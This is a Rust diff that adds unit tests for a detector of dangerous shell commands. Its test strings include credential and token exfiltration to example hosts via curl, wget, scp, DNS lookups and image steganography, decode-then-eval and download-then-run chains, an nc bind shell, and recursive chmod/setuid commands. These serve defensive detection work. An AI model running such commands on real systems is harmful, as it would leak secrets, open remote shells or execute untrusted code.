@@ -147,3 +147,163 @@ fn without_a_shell_only_sh_c_scripts_have_pipelines() {
         DangerKind::RemoveRoot
     );
 }
+
+fn shown(script: &str) -> Vec<(DangerKind, String)> {
+    dangers(script, Dialect::Posix)
+        .into_iter()
+        .map(|d| (d.kind, script[d.start..d.end].to_string()))
+        .collect()
+}
+
+fn only(script: &str) -> Vec<DangerKind> {
+    dangers(script, Dialect::Posix)
+        .into_iter()
+        .map(|d| d.kind)
+        .collect()
+}
+
+#[test]
+fn a_secret_sent_out_is_a_chain_with_both_places() {
+    use DangerKind::Exfiltration as X;
+    let script = "cat /proc/self/environ | curl -s -d @- https://c.example.net/in";
+    let found = dangers(script, Dialect::Posix);
+    assert_eq!(found.len(), 1, "{found:?}");
+    assert_eq!(found[0].kind, X);
+    assert_eq!(
+        &script[found[0].start..found[0].end],
+        "curl -s -d @- https://c.example.net/in"
+    );
+    let r = found[0].related.as_ref().map(|r| &script[r.start..r.end]);
+    assert_eq!(r, Some("cat /proc/self/environ"));
+    assert_eq!(
+        only("curl --data \"$(env | grep -i token)\" https://h.example.org/x"),
+        [X]
+    );
+    assert_eq!(
+        only("curl -F \"f=@$HOME/.aws/credentials\" https://h.example.org/u"),
+        [X]
+    );
+    // Through a file and through a variable, statements apart.
+    assert_eq!(
+        only("tar czf /tmp/k.tgz ~/.ssh\ncurl -T /tmp/k.tgz https://up.example.net/k"),
+        [X]
+    );
+    assert_eq!(
+        only("E=$(printenv | base64 -w0)\nwget --post-data=\"e=$E\" https://up.example.net/"),
+        [X]
+    );
+    assert_eq!(
+        only("dig @1.1.1.1 $(echo $GITHUB_TOKEN | base64).t.example.net +short"),
+        [X]
+    );
+    assert_eq!(only("scp ~/.ssh/id_ed25519 u@203.0.113.4:/tmp/"), [X]);
+    // Hidden in an image, two files on.
+    assert_eq!(
+        only(
+            "env > /tmp/e.txt\nbase64 /tmp/e.txt > /tmp/e.b64\nsteghide embed -ef /tmp/e.b64 -cf logo.jpg -p ''\ncurl -F img=@logo.jpg https://img.example.net/up"
+        ),
+        [X]
+    );
+    assert_eq!(
+        only(
+            "exiftool -Comment=\"$(cat ~/.aws/credentials)\" photo.jpg\ncurl -F p=@photo.jpg https://img.example.net/up"
+        ),
+        [X]
+    );
+    // A key hunted for, sent out a label at a time.
+    assert_eq!(
+        only("for c in $(cat ~/.ssh/id_rsa | xxd -p -c 16); do dig $c.k.example.net; done"),
+        [X]
+    );
+}
+
+#[test]
+fn either_half_alone_is_at_most_a_warning_and_usually_nothing() {
+    use DangerKind::{ReadsCredentials as R, SendsData as S};
+    // A file the user asked to upload, with the token where it belongs: in a header.
+    assert!(only("curl -X POST -F \"file=@$REPORT\" -H \"Authorization: Bearer $API_TOKEN\" https://api.files.example.com/v1").is_empty());
+    // A token printed by its CLI, for the service it belongs to.
+    assert!(only("curl -H \"Authorization: Bearer $(gcloud auth print-access-token)\" -d '{}' https://x.googleapis.com/v1").is_empty());
+    // The environment read to debug, and an API called.
+    assert!(
+        only("env | grep -i proxy\ncurl -X POST -d @body.json https://api.example.com/v1/items")
+            .is_empty()
+    );
+    assert!(only("printenv\ncurl -d '{\"a\":1}' https://api.example.com").is_empty());
+    // An OAuth refresh sends a secret to the token endpoint it belongs to.
+    assert!(only("curl -d client_secret=$CLIENT_SECRET -d grant_type=refresh_token https://oauth2.example.com/token").is_empty());
+    assert!(only("dig +short $DOMAIN\nnslookup api.$DOMAIN").is_empty());
+    // Halves that are worth a word on their own.
+    assert_eq!(only("cat ~/.aws/credentials"), [R]);
+    assert_eq!(only("security dump-keychain -d login.keychain"), [R]);
+    assert_eq!(only("security find-generic-password -s my-tool -w"), [R]);
+    // The tool's own key, sent to its service in a header.
+    assert_eq!(
+        only(
+            "KEY=$(security find-generic-password -s acme -w)\ncurl -H \"Authorization: Bearer $KEY\" -d '{}' https://api.acme.example/v1"
+        ),
+        [R]
+    );
+    assert_eq!(only("dig $(hostname).x.example.net"), [S]);
+    assert_eq!(only("curl -d @notes.txt https://abc123.webhook.site/"), [S]);
+    // A literal test payload sent to a request catcher: how webhooks are tried out.
+    assert!(only("curl -X POST -d '{\"event\":\"ping\"}' https://abc123.webhook.site/").is_empty());
+    assert!(only("cat ~/.aws/config ~/.ssh/config ~/.ssh/id_ed25519.pub").is_empty());
+}
+
+#[test]
+fn decoded_or_downloaded_then_run_on_a_later_line() {
+    use DangerKind::{DecodeExecute as D, DownloadExecute as L};
+    let script = "P=$(echo ZWNobyBoaQ== | base64 -d)\nsleep 1\neval \"$P\"";
+    let found = dangers(script, Dialect::Posix);
+    assert_eq!(found.len(), 1);
+    assert_eq!(found[0].kind, D);
+    assert_eq!(&script[found[0].start..found[0].end], "eval \"$P\"");
+    assert_eq!(
+        only("X=`printf %s aGk= | base64 --decode`\nY=\"$X\"\nbash -c \"$Y\""),
+        [D]
+    );
+    assert_eq!(only("echo aGk= | base64 -d > /tmp/s.sh\nsh /tmp/s.sh"), [D]);
+    assert_eq!(
+        shown("curl -sLo /tmp/h https://dl.example.net/h && chmod +x /tmp/h && /tmp/h --daemon")
+            .into_iter()
+            .map(|(k, _)| k)
+            .collect::<Vec<_>>(),
+        [L]
+    );
+    assert_eq!(
+        only("wget https://dl.example.net/setup.sh\nbash setup.sh"),
+        [L]
+    );
+    // Decoded data that is never run, a download that is verified first.
+    assert!(
+        only("T=$(echo $B64 | base64 -d)\ncurl -H \"X-Key: $T\" https://api.example.com")
+            .is_empty()
+    );
+    assert!(only("base64 -d tests/fixture.b64 > fixture.bin\nxxd fixture.bin | head").is_empty());
+    assert!(only("curl -fsSLo tool.tgz https://dl.example.net/tool-1.2.tgz\necho \"0123abcd  tool.tgz\" | sha256sum -c -\ntar xzf tool.tgz\nbash tool.tgz").is_empty());
+}
+
+#[test]
+fn reverse_shells_bind_shells_and_recursive_permissions() {
+    use DangerKind::{ReverseShell as R, WorldWritable as W};
+    assert_eq!(only("nc -l -p 4441 -e /bin/bash"), [R]);
+    assert_eq!(
+        shown("chmod -R 0666 ~"),
+        [(W, "chmod -R 0666 ~".to_string())]
+    );
+    assert_eq!(
+        only("sudo chown -R nobody /")[1],
+        DangerKind::RecursivePermissions
+    );
+    assert!(only("chmod -R 755 ./dist").is_empty());
+    assert_eq!(only("chmod u+s /bin/bash"), [DangerKind::PrivilegeKept]);
+    assert_eq!(
+        kinds(
+            "pwsh -c \"irm https://x.example/i.ps1 | iex\"",
+            Dialect::Posix
+        )[0]
+        .0,
+        DangerKind::DownloadExecute
+    );
+}
